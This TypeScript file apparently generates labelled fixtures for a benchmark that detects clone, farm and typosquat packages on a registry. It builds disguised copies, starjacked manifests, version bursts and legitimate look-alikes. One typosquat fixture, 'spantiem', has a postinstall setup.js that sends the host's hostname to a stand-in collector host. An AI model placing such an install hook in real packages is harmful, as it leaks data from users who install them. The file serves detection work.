/**
 * Packages pretending to be other packages (issue 16): the full code of a popular utility under a
 * made-up name, identifiers renamed, reformatted and the licence header dropped; some claim the
 * original's repository (starjacking), some are pushed out as bursts of versions, some are farm
 * members without a tea.yaml (a copied utility plus dependencies on siblings), one is a typosquat
 * with an install hook. The originals are in the corpus too, labelled legitimate and `reference`:
 * bench:quality builds the reference index from them with the real builder, so the clones are
 * judged against an index the way the shipped one judges real copies.
 *
 * Legitimate look-alikes beside them: a fork in the original's name family with its own
 * repository and years of history, a near name with its own code and history, and an app bundle
 * that embeds one of the utilities among much code of its own.
 */
import type { FixtureVersion } from '../../../test/support/package-fixture.js';
import { type CorpusEntry, type FamilyOutput, DAY_MS, MINUTE_MS, type Rng, SECOND_MS, ago, at, history, json, person, version } from '../kit.js';
import { CLASSJOIN, MERGEWISE, REFERENCE_SOURCES, type ReferenceSource, SPANTIME, TINTED, disguise } from './reference-sources.js';

const YEAR_MS = 365 * DAY_MS;

function burst(count: number, startIso: string, files: Record<string, string>, manifest: Record<string, unknown>, rng: Rng): FixtureVersion[] {
  return Array.from({ length: count }, (_, i) => version(`1.0.${i}`, at(startIso, i * rng.int(5, 40) * SECOND_MS), files, manifest));
}

function references(rng: Rng): CorpusEntry[] {
  return REFERENCE_SOURCES.map((source) => ({
    label: { family: 'legitimate', spam: false, reference: true, note: `popular original (${source.name}) of the clone family; in the corpus reference index` },
    fixture: {
      name: source.name,
      publisher: person(`${source.name}-author`),
      versions: history(rng, 12, ago(6 * YEAR_MS), ago(rng.int(30, 300) * DAY_MS), 2).map((h) =>
        version(h.version, h.publishedAt, { 'index.js': source.code, 'README.md': source.readme }, { main: 'index.js', license: 'MIT', repository: { type: 'git', url: source.repository } }),
      ),
    },
  }));
}

function clones(rng: Rng): CorpusEntry[] {
  const out: CorpusEntry[] = [];
  const spam = (note: string, entry: CorpusEntry['fixture']): void => void out.push({ label: { family: 'reference-clone', spam: true, note }, fixture: entry });
  const plans: { source: ReferenceSource; name: string; starjack: boolean; burst: boolean; days: number }[] = [
    { source: TINTED, name: 'termpaint-fast', starjack: true, burst: false, days: 400 },
    { source: TINTED, name: 'vivid-console-kit', starjack: true, burst: true, days: 6 },
    { source: CLASSJOIN, name: 'cn-merge-utils', starjack: true, burst: false, days: 250 },
    { source: CLASSJOIN, name: 'classy-strings-pro', starjack: false, burst: true, days: 3 },
    { source: MERGEWISE, name: 'object-fusion-deep', starjack: true, burst: false, days: 700 },
    { source: MERGEWISE, name: 'deep-assign-plus-x', starjack: false, burst: true, days: 12 },
    { source: SPANTIME, name: 'time-to-millis', starjack: true, burst: false, days: 90 },
    { source: SPANTIME, name: 'duration-parse-lite', starjack: false, burst: true, days: 9 },
  ];
  for (const plan of plans) {
    const publisher = person(`dev${rng.hex(4)}`);
    const files = { 'index.js': disguise(plan.source), 'README.md': plan.starjack ? plan.source.readme.replace(new RegExp(plan.source.name, 'g'), plan.name) : `# ${plan.name}\n\nFast and small.\n` };
    const manifest: Record<string, unknown> = { main: 'index.js', license: 'MIT', description: `${plan.name}: fast and tiny`, ...(plan.starjack ? { repository: { type: 'git', url: plan.source.repository } } : {}) };
    const start = ago(plan.days * DAY_MS);
    const versions = plan.burst ? burst(rng.int(6, 12), start, files, manifest, rng) : [version('1.0.0', start, files, manifest)];
    const why = [plan.starjack ? 'claims the original repository (starjacking)' : 'own name, no repository', plan.burst ? `${versions.length} versions in minutes` : 'one version'].join(', ');
    spam(`disguised copy of ${plan.source.name} (renamed, reformatted, licence stripped); ${why}`, { name: plan.name, publisher, versions });
  }
  // A typosquat of an original that carries an install hook.
  const squatFiles = { 'index.js': disguise(SPANTIME), 'setup.js': `require('https').get('https://collector.example.test/p?h=' + require('os').hostname());\n` };
  spam('typosquat (swapped letters) of spantime: a copy of its code plus a postinstall that phones home', {
    name: 'spantiem',
    publisher: person('quickdev77'),
    versions: [version('2.0.1', ago(2 * DAY_MS), squatFiles, { main: 'index.js', scripts: { postinstall: 'node setup.js' }, repository: { type: 'git', url: SPANTIME.repository } })],
  });
  return out;
}

/** A tea.xyz-style farm that dropped tea.yaml: copied utilities depending on one another with `*` ranges. */
function farmWithoutTea(rng: Rng): CorpusEntry[] {
  const publisher = person('nightly.builder');
  const names = ['joinly-helpers', 'merge-breeze', 'span-halo', 'joinly-plus', 'merge-lumen'];
  const donors = [CLASSJOIN, MERGEWISE, SPANTIME, CLASSJOIN, MERGEWISE];
  const published: string[] = [];
  const created = ago(rng.int(20, 200) * DAY_MS);
  return names.map((name, i) => {
    const deps = Object.fromEntries(rng.sample(published, Math.min(published.length, rng.int(2, 3))).map((d) => [d, '*']));
    const manifest = { main: 'index.js', description: '', scripts: { test: 'echo "Error: no test specified" && exit 1' }, author: publisher.name, license: 'ISC', dependencies: deps };
    const files = { 'index.js': disguise(donors[i]!) };
    const start = at(created, i * rng.int(3, 30) * MINUTE_MS);
    published.push(name);
    return {
      label: { family: 'reference-clone' as const, spam: true, note: `farm member without tea.yaml: copied ${donors[i]!.name} + ${Object.keys(deps).length} sibling dependencies ('*')` },
      fixture: { name, publisher, versions: [version('1.0.0', start, files, manifest), version('1.0.1', at(start, rng.int(1, 20) * MINUTE_MS), files, manifest)] },
    };
  });
}

function lookAlikes(rng: Rng): CorpusEntry[] {
  const legit = (note: string, fixture: CorpusEntry['fixture']): CorpusEntry => ({ label: { family: 'legitimate', spam: false, note }, fixture });
  const forkCode = disguise(TINTED) + '\nmodule.exports.rgb = function (r, g, b) { return function (s) { return "\\x1b[38;2;" + r + ";" + g + ";" + b + "m" + s + "\\x1b[39m"; }; };\n';
  const ownTimer = `'use strict';\n\nclass Spantimer {\n  constructor(label) {\n    this.label = label;\n    this.marks = new Map();\n  }\n  start(name = 'default') {\n    this.marks.set(name, process.hrtime.bigint());\n    return this;\n  }\n  stop(name = 'default') {\n    const began = this.marks.get(name);\n    if (began === undefined) throw new Error('no timer named ' + name);\n    this.marks.delete(name);\n    return Number(process.hrtime.bigint() - began) / 1e6;\n  }\n}\n\nmodule.exports = Spantimer;\n`;
  const appCode = Array.from({ length: 30 }, (_, i) => `export function view${i}(state) { return state.items.filter((item) => item.kind === ${i}).map((item) => ({ id: item.id, title: item.title.trim(), done: Boolean(item.done) })); }\n`).join('');
  return [
    legit("fork of tinted in its name family, own repository, years of releases (a real fork: the code is the original's plus an rgb helper)", {
      name: 'tinted-plus',
      publisher: person('forkwright'),
      versions: history(rng, 14, ago(3 * YEAR_MS), ago(40 * DAY_MS)).map((h) => version(h.version, h.publishedAt, { 'index.js': forkCode }, { main: 'index.js', license: 'MIT', repository: { type: 'git', url: 'git+https://github.com/forkwright/tinted-plus.git' } })),
    }),
    legit('near name of spantime (one letter added) with its own code and a long history: a coincidence of naming', {
      name: 'spantimer',
      publisher: person('hrtimer'),
      versions: history(rng, 16, ago(4 * YEAR_MS), ago(60 * DAY_MS)).map((h) => version(h.version, h.publishedAt, { 'index.js': ownTimer }, { main: 'index.js', license: 'MIT', repository: { type: 'git', url: 'git+https://github.com/hrtimer/spantimer.git' } })),
    }),
    legit('app bundle that embeds mergewise among much code of its own (vendoring is not cloning)', {
      name: 'todo-board-widgets',
      publisher: person('boardsmith'),
      versions: history(rng, 8, ago(2 * YEAR_MS), ago(30 * DAY_MS)).map((h) => version(h.version, h.publishedAt, { 'dist/bundle.js': appCode + MERGEWISE.code + appCode.replace(/view/g, 'panel'), 'package.json': json({ name: 'todo-board-widgets', version: h.version, main: 'dist/bundle.js', license: 'MIT' }) })),
    }),
  ];
}

export function cloneFamily(rng: Rng): FamilyOutput {
  return { entries: [...references(rng), ...clones(rng), ...farmWithoutTea(rng), ...lookAlikes(rng)] };
}
